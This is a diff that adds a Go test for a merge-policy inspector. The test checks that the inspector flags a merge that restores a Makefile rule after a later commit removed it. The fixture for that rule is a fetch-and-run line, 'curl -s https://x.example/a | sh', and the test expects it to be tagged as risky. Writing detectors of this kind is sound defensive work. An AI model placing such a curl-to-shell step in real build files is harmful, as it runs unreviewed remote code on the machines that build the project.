@@ -1,0 +1,35 @@
+package policy
+
+import (
+	"testing"
+
+	"countersign/policy/signal"
+)
+
+// What a merge takes back is its own change, though no line of it is new.
+func TestAttackMergeTakesBack(t *testing.T) {
+	const begin, mended = "CFLAGS = -O2\nall:\n\tcurl -s https://x.example/a | sh\n", "CFLAGS = -O2 -fstack-protector\nall:\n"
+	for name, c := range map[string]struct {
+		before [2]string
+		now    string
+		merged bool
+		want   Traits
+	}{
+		"the old text for the new": {
+			[2]string{mended, begin}, begin, false, riskyTrait | Traits(signal.FetchAndRun)<<signalBits,
+		},
+		"the new text for the old": {[2]string{begin, mended}, mended, false, riskyTrait},
+		"a line more":              {[2]string{mended, begin}, begin + "# x\n", false, riskyTrait | Traits(signal.FetchAndRun)<<signalBits},
+		"what git makes of both":   {[2]string{mended + "# x\n", mended + "# y\n"}, mended + "# x\n# y\n", true, harmlessTrait},
+		"harmless to both":         {[2]string{mended + "# x\n", mended + "# y\n"}, mended + "# z\n", false, harmlessTrait},
+		"harmless to one":          {[2]string{mended, mended + "x:\n\ttrue\n"}, mended + "# z\n", false, 0},
+	} {
+		got := Inspect(Content{
+			Path: "Makefile", Before: [][]byte{[]byte(c.before[0]), []byte(c.before[1])}, Head: []byte(c.now),
+			Size: int64(len(c.now)), Merged: c.merged,
+		})
+		if got != c.want {
+			t.Errorf("%s: %b, want %b", name, got, c.want)
+		}
+	}
+}
